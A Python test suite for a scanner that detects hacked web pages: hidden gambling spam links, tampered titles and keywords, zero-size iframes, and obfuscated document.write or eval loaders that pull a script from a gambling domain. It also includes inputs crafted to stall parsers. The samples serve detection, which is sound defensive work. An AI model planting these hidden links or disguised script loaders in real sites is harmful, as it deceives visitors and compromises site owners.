"""Dark links: what hacked pages hide and say, and the honest pages that look alike."""

import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from infra.records import Suspicion, SuspicionKind
from spiders.reading.dark import MOST, is_stranger, read_dark
from spiders.reading.dark_words import shipped
from spiders.reading.landing import read_landing
from spiders.reading.links import Resolver
from spiders.reading.outline import lay_flat

from .pages import FOOTER, SITE, TRS_ARTICLE, TRS_LIST, body, page

EVIL = "http://www.dubo88.com/"
LINK = f'<a href="{EVIL}">好运来</a>'
SELLING = f'<a href="{EVIL}">澳门新葡京百家乐</a>'


def dark(markup: str) -> tuple[Suspicion, ...]:
    return page(markup).suspicions


@pytest.mark.parametrize(
    ("markup", "how"),
    [
        (f'<div style="position:absolute;left:-5000px">{LINK}</div>', "off the screen"),
        (f'<div style="height:0;overflow:hidden"><ul><li>{LINK}</li></ul></div>', "an area of one pixel"),
        (f'<span style="font-size:0">{LINK}</span>', "letters without size"),
        (f'<a style="color:#fff;background:#fff" href="{EVIL}">好运</a>', "letters in the colour of their ground"),
        (f'<marquee width="1" height="4" scrollamount="3000">{LINK}</marquee>', "a marquee of one pixel"),
        (f'<div style="display:none">{SELLING}</div>', "not displayed, sells 新葡京、百家乐"),
        (f'<div style="visibility:hidden">{SELLING}</div>', "not displayed, sells 新葡京、百家乐"),
        (SELLING, "sells 新葡京、百家乐"),
        (f'<a href="{EVIL}" title="六合彩开奖">本站</a>', "sells 六合彩"),
    ],
)
def test_links_to_strangers_that_visitors_do_not_see_or_that_sell(markup: str, how: str) -> None:
    [one] = dark(body(markup + FOOTER))
    assert (one.kind, one.sample, one.why, one.count) == (SuspicionKind.DARK_LINK, EVIL, how, 1)
    assert one.where.startswith("link")


@pytest.mark.parametrize(
    "markup",
    [
        f'<ul style="display:none">{LINK}</ul>',
        '<ul class="menu" style="display:none"><li><a href="/zwgk/">政务公开</a></li></ul>',
        '<div style="position:absolute;left:-5000px"><a href="/nav.html">跳到导航</a></div>',
        '<div style="position:absolute;left:-5000px"><a href="http://www.hubei.gov.cn/">省政府</a></div>',
        '<div style="position:absolute;left:-5000px"><a href="http://www.shuiyang.gov.cn/x.html">本站</a></div>',
        '<div style="display:none"><a href="https://www.cnzz.com/stat/website.php?web_id=1">站长统计</a></div>',
        '<div style="height:0;overflow:hidden"><a href="https://tongji.baidu.com/x">统计</a></div>',
        f'<div style="font-size:0"><a href="{EVIL}"><img src="/a.png"></a></div>',
        '<a href="http://www.jubao.com/">警方严厉打击时时彩、百家乐等网络赌博</a>',
        '<a href="http://www.a.com/">成熟女性健康讲座</a><a href="http://www.b.com/">贪官受贿人妻子同罪</a>',
        '<div style="display:none"><a href="mailto:a@dubo88.com">百家乐</a><a href="#">六合彩</a></div>',
        f'<!-- <div style="position:absolute;left:-5000px">{LINK}</div> -->',
    ],
)
def test_honest_pages(markup: str) -> None:
    assert dark(body(markup + FOOTER)) == ()


def test_real_layouts_are_not_suspected() -> None:
    assert page(TRS_ARTICLE).suspicions == page(TRS_LIST).suspicions == ()


def test_links_behind_the_end_of_the_page() -> None:
    [one] = dark(body("<p>正文</p>") + f"\n{LINK}")
    assert (one.sample, one.why, one.where) == (EVIL, "behind the end of the page", "link 好运来")
    assert dark(body("<p>正文</p>") + f"<div>技术支持：{LINK}</div>") == (), "a footer that a template adds"
    assert dark(body("<p>正文</p>") + '<a href="/a.html">甲</a>') == ()


@pytest.mark.parametrize(
    ("head", "where"),
    [
        ("<title>澳门新葡京娱乐场-真人百家乐</title>", "title"),
        ("<title>&#30334;&#23478;&#20048;_&#20845;&#21512;&#24425;</title>", "title"),
        ('<title>水阳县</title><meta name="keywords" content="百家乐,六合彩,足球投注">', "keywords"),
        ('<title>水阳县百家乐</title><META NAME="Description" CONTENT="六合彩">', "title"),
    ],
)
def test_a_title_that_is_not_the_site_s_own(head: str, where: str) -> None:
    [one] = dark(f"<html><head>{head}</head><body><p>正文</p></body></html>")
    assert (one.kind, one.where) == (SuspicionKind.TAMPERED, where)
    assert "sells" in one.why


@pytest.mark.parametrize(
    "title",
    ["水阳县人民政府", "关于严厉打击“百家乐”“六合彩”违法犯罪活动的通告", "体育彩票足球投注常识", "谨防裸聊、约炮骗局"],
)
def test_a_title_that_speaks_of_the_matter(title: str) -> None:
    assert dark(f"<html><head><title>{title}</title></head><body></body></html>") == ()


SCRIPT = '<script src="http://js.dubo88.com/t.js"></script>'


@pytest.mark.parametrize(
    "code",
    [
        f'document.write(unescape("{quote(SCRIPT)}"))',
        f"eval(String.fromCharCode({','.join(str(ord(c)) for c in f'document.write({SCRIPT!r})')}))",
        "document.write('" + "".join(f"\\x{ord(c):02x}" for c in SCRIPT) + "')",
    ],
)
def test_scripts_in_disguise(code: str) -> None:
    [one] = dark(body(f"<script>{code}</script>"))
    assert (one.kind, one.sample, one.where) == (SuspicionKind.TAMPERED, "http://js.dubo88.com/t.js", "script")


@pytest.mark.parametrize(
    "code",
    [
        "document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1/CA1.js'%3E%3C/script%3E\"));",
        "document.write(unescape(\"%3Cscript src='https://hm.baidu.com/h.js%3Fabc'%3E%3C/script%3E\"));",
        "document.write(unescape(\"%3Cscript src='/js/own.js'%3E%3C/script%3E\"));",
        "document.write(\"<script src='http://js.vendor.com/t.js'><\\/script>\");",
        "var a = String.fromCharCode(65, 66); eval(a);",
        "",
    ],
)
def test_honest_scripts(code: str) -> None:
    assert dark(body(f"<script>{code}</script>")) == ()


def test_an_unseen_frame_of_a_stranger() -> None:
    [one] = dark(body(f'<iframe src="{EVIL}" width="0" height="0"></iframe>'))
    assert (one.kind, one.where) == (SuspicionKind.TAMPERED, "frame")
    assert dark(body('<iframe src="/count.html" width="0" height="0"></iframe>')) == ()
    assert dark(body(f'<iframe src="{EVIL}" width="600" height="400"></iframe>')) == ()


def test_few_are_told_and_those_alike_are_counted() -> None:
    many = "".join(f'<a href="http://d{n % 9}.com/{n}">百家乐</a>' for n in range(90))
    found = dark(body(many))
    assert len(found) == MOST
    assert {one.count for one in found} == {10}


@pytest.mark.parametrize(
    ("url", "stranger"),
    [
        ("http://www.a.gov.cn/x", False),
        ("http://gov.cn/", False),
        ("http://img.site.com.cn/x", False),
        ("http://site.com.cn:8080/x", False),
        ("http://mysite.com.cn/", True),
        ("http://fake-gov.cn/", True),
        ("http://a.gov.cn.evil.com/", True),
        ("http://tieba.baidu.com/", False),
        ("http://notbaidu.com/", True),
        ("http://1.2.3.4/", True),
    ],
)
def test_who_is_a_stranger(url: str, stranger: bool) -> None:
    assert is_stranger(url, "http://www.site.com.cn/") is stranger


@pytest.mark.parametrize(
    ("markup", "why"),
    [
        ("<title>澳门威尼斯人 官方</title>", "sells 澳门威尼斯人"),
        ('<title>欢迎</title><meta name="keywords" content="百家乐 六合彩">', "sells 百家乐、六合彩"),
        ("<title>example.com</title><body>This domain is for sale!", "for sale"),
        ("<title>域名出售</title>", "for sale"),
    ],
)
def test_where_a_link_leads(markup: str, why: str) -> None:
    [one] = read_landing(f"<html><head><meta charset=utf-8>{markup}".encode(), EVIL).suspicions
    assert (one.kind, one.sample) == (SuspicionKind.DARK_LINK, EVIL)
    assert why in one.why


@pytest.mark.parametrize("title", ["某某有限公司", "网信办：严打网络赌博", "百家姓文化网", ""])
def test_where_an_honest_link_leads(title: str) -> None:
    found = read_landing(f"<html><title>{title}</title><body>公司简介".encode(), EVIL)
    assert (found.title, found.suspicions, found.challenge) == (title, (), "")


@given(st.binary(max_size=400), st.text(max_size=200))
def test_no_page_breaks_the_readers(raw: bytes, text: str) -> None:
    read_landing(raw, EVIL)
    markup = (
        f'<title>{text}</title><div style="{text[:40]}">{LINK}</div><script>eval({text})</script></html>{text}{LINK}'
    )
    assert len(dark(markup)) <= MOST


def test_every_word_is_told_from_the_words_it_stands_in() -> None:
    words = shipped()
    for honest in (
        "没有码头",
        "某人妻子",
        "一本道德经",
        "现金网点",
        "信用网站",
        "姜黄片",
        "羊毛片",
        "三级片区",
        "美食城包夜宵",
    ):
        assert words.sold_in(honest) == ()
    assert words.sold_in("BET365 开户") == ("bet365",)


@pytest.mark.parametrize(
    "markup",
    [
        f'<a href="{EVIL}"><marquee>' * 20_000,
        f'<div style="{"/*" * 900}font-size:0"><a href="{EVIL}">x</a></div>' * 3_000,
        f'<div style="font-size:0">{"<p>" * 1_900}' + f'<a href="{EVIL}">x</a>' * 30_000,
        "</html>" + "<a " + "href=x" * 20_000,
        "</html>" + f"<a {'href=x' * 80}" * 150,
        "</html>" + "<a href='" * 20_000,
        "<script>document.write('" + "<script src" * 9_000 + "')</script>",
        "<script>" + "fromCharCode(" * 9_000 + "1," * 9_000 + "eval</script>",
        "<script>document.write(unescape('" + "%3Cscript src=//" * 9_000 + "'))</script>",
        f"<title>{'百家乐' * 300_000}</title>",
    ],
)
def test_pages_built_to_hurt_are_read_in_no_time(markup: str) -> None:
    markup = body(markup) if not markup.startswith("</html>") else body("") + markup
    outline = lay_flat(markup)
    begun = time.process_time()
    found = read_dark(outline, markup, f"{SITE}/x.html", Resolver(f"{SITE}/x.html"))
    assert time.process_time() - begun < 1
    assert len(found) <= MOST
